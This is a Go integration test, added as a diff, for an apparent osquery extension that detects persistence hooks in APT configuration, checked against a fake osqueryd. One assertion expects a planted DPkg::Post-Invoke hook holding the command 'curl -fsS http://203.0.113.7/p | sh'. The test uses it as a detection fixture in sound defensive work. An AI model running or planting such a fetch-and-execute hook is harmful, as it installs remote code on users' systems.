@@ -1,0 +1,224 @@
+package server_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/apache/thrift/lib/go/thrift"
+	"github.com/osquery/osquery-go/gen/osquery"
+	"github.com/osquery/osquery-go/mock"
+	"github.com/osquery/osquery-go/transport"
+
+	"github.com/pkgpersist/pkgpersist/extension/registry"
+)
+
+// buildExtension compiles pkgpersist.ext once for the tests here.
+func buildExtension(t *testing.T) string {
+	t.Helper()
+	bin := filepath.Join(t.TempDir(), "pkgpersist.ext")
+	cmd := exec.Command("go", "build", "-o", bin, "..")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("go build: %v\n%s", err, out)
+	}
+	return bin
+}
+
+// fakeOsqueryd serves osquery-go's mock ExtensionManager on a unix socket,
+// as osqueryd serves its extension manager.
+type fakeOsqueryd struct {
+	sock       string
+	srv        *thrift.TSimpleServer
+	registered chan osquery.ExtensionRegistry
+}
+
+const extensionUUID = 7
+
+func startFakeOsqueryd(t *testing.T) *fakeOsqueryd {
+	t.Helper()
+	// unix socket paths must stay short (~100 bytes)
+	dir, err := os.MkdirTemp("", "ppx")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	f := &fakeOsqueryd{sock: filepath.Join(dir, "em"), registered: make(chan osquery.ExtensionRegistry, 1)}
+	ok := &osquery.ExtensionStatus{Code: 0, Message: "OK"}
+	mgr := &mock.ExtensionManager{
+		PingFunc: func(context.Context) (*osquery.ExtensionStatus, error) { return ok, nil },
+		RegisterExtensionFunc: func(_ context.Context, info *osquery.InternalExtensionInfo, reg osquery.ExtensionRegistry) (*osquery.ExtensionStatus, error) {
+			if info.Name != "pkgpersist" {
+				t.Errorf("extension registered as %q", info.Name)
+			}
+			f.registered <- reg
+			return &osquery.ExtensionStatus{Code: 0, Message: "OK", UUID: extensionUUID}, nil
+		},
+		DeregisterExtensionFunc: func(context.Context, osquery.ExtensionRouteUUID) (*osquery.ExtensionStatus, error) {
+			return ok, nil
+		},
+		OptionsFunc: func(context.Context) (osquery.InternalOptionList, error) { return osquery.InternalOptionList{}, nil },
+	}
+	ts, err := transport.OpenServer(f.sock, time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.srv = thrift.NewTSimpleServer2(osquery.NewExtensionManagerProcessor(mgr), ts)
+	if err := f.srv.Listen(); err != nil {
+		t.Fatal(err)
+	}
+	go f.srv.Serve()
+	return f
+}
+
+// process runs the extension as osqueryd would start it.
+type process struct {
+	cmd    *exec.Cmd
+	stderr *safeBuffer
+	done   chan error
+}
+
+type safeBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *safeBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *safeBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+func startExtension(t *testing.T, bin, sock string) *process {
+	t.Helper()
+	p := &process{stderr: &safeBuffer{}, done: make(chan error, 1)}
+	// osqueryd's argv: separate entries, --verbose first
+	p.cmd = exec.Command(bin, "--verbose", "--socket", sock, "--timeout", "3", "--interval", "1")
+	p.cmd.Stderr = p.stderr
+	if err := p.cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	go func() { p.done <- p.cmd.Wait() }()
+	t.Cleanup(func() {
+		_ = p.cmd.Process.Kill()
+	})
+	return p
+}
+
+func (p *process) waitExit(t *testing.T, within time.Duration) {
+	t.Helper()
+	select {
+	case err := <-p.done:
+		if err != nil {
+			t.Fatalf("extension exited with %v; stderr:\n%s", err, p.stderr.String())
+		}
+	case <-time.After(within):
+		t.Fatalf("extension still running after %v; stderr:\n%s", within, p.stderr.String())
+	}
+}
+
+func TestRegistrationCallAndExit(t *testing.T) {
+	bin := buildExtension(t)
+	osqd := startFakeOsqueryd(t)
+	ext := startExtension(t, bin, osqd.sock)
+
+	var reg osquery.ExtensionRegistry
+	select {
+	case reg = <-osqd.registered:
+	case <-time.After(10 * time.Second):
+		t.Fatalf("no registration; stderr:\n%s", ext.stderr.String())
+	}
+
+	// every table, with the right columns, types and hidden flags
+	for _, tb := range registry.Tables() {
+		routes, ok := reg["table"][tb.Name]
+		if !ok {
+			t.Fatalf("table %s not registered; got %v", tb.Name, reg["table"])
+		}
+		if len(routes) != len(tb.Columns) {
+			t.Fatalf("%s: %d columns registered, %d defined", tb.Name, len(routes), len(tb.Columns))
+		}
+		for i, c := range tb.Columns {
+			r := routes[i]
+			wantOp := "0"
+			if c.Hidden {
+				wantOp = strconv.Itoa(16 | 4) // HIDDEN | ADDITIONAL
+			}
+			if r["id"] != "column" || r["name"] != c.Name || r["type"] != string(c.Type) || r["op"] != wantOp {
+				t.Errorf("%s column %d: registered %v, want %s %s op %s", tb.Name, i, r, c.Name, c.Type, wantOp)
+			}
+		}
+	}
+
+	// a Thrift call to the extension's own socket, with a root constraint
+	trans, err := transport.Open(osqd.sock+"."+strconv.Itoa(extensionUUID), 5*time.Second)
+	if err != nil {
+		t.Fatalf("extension socket: %v; stderr:\n%s", err, ext.stderr.String())
+	}
+	client := osquery.NewExtensionClientFactory(trans, thrift.NewTBinaryProtocolFactoryDefault())
+	root, _ := filepath.Abs("../../test/roots/planted")
+	qc, _ := json.Marshal(map[string]any{"constraints": []map[string]any{{
+		"name": "root", "affinity": "TEXT", "list": []map[string]any{{"op": 2, "expr": root}},
+	}}})
+	resp, err := client.Call(context.Background(), "table", "apt_hooks", osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if resp.Status.Code != 0 {
+		t.Fatalf("generate failed: %s", resp.Status.Message)
+	}
+	found := false
+	for _, row := range resp.Response {
+		if row["root"] != root {
+			t.Fatalf("row root %q, want %q", row["root"], root)
+		}
+		if row["command"] == "curl -fsS http://203.0.113.7/p | sh" && row["hook"] == "DPkg::Post-Invoke" && row["active"] == "1" && row["path"] == "/etc/apt/apt.conf.d/10block.conf" {
+			found = true
+		}
+	}
+	if !found {
+		t.Fatalf("planted hook missing from %d rows", len(resp.Response))
+	}
+	// a bad root is one clear error, not a crash
+	qc, _ = json.Marshal(map[string]any{"constraints": []map[string]any{{
+		"name": "root", "affinity": "TEXT", "list": []map[string]any{{"op": 2, "expr": "/nonexistent/root"}},
+	}}})
+	resp, err = client.Call(context.Background(), "table", "apt_hooks", osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
+	if err != nil || resp.Status.Code == 0 {
+		t.Fatalf("bad root: err %v, status %+v", err, resp.Status)
+	}
+	trans.Close()
+
+	// osqueryd goes away: the extension notices at its next ping and exits 0
+	osqd.srv.Stop()
+	ext.waitExit(t, 15*time.Second)
+}
+
+func TestExitsOnSignal(t *testing.T) {
+	bin := buildExtension(t)
+	osqd := startFakeOsqueryd(t)
+	ext := startExtension(t, bin, osqd.sock)
+	select {
+	case <-osqd.registered:
+	case <-time.After(10 * time.Second):
+		t.Fatalf("no registration; stderr:\n%s", ext.stderr.String())
+	}
+	if err := ext.cmd.Process.Signal(syscall.SIGTERM); err != nil {
+		t.Fatal(err)
+	}
+	ext.waitExit(t, 10*time.Second)
+	osqd.srv.Stop()
+}
